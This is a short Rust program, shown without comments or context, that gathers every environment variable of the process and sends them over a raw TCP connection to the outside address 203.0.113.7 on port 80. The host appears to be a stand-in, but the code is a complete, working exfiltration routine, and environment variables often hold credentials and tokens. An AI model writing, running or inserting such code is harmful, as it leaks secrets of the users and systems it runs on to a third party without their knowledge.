use std::io::Write;
use std::net::TcpStream;

fn main() {
    let dump: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    let mut conn = TcpStream::connect(("203.0.113.7", 80)).unwrap();
    conn.write_all(dump.join("\n").as_bytes()).unwrap();
}
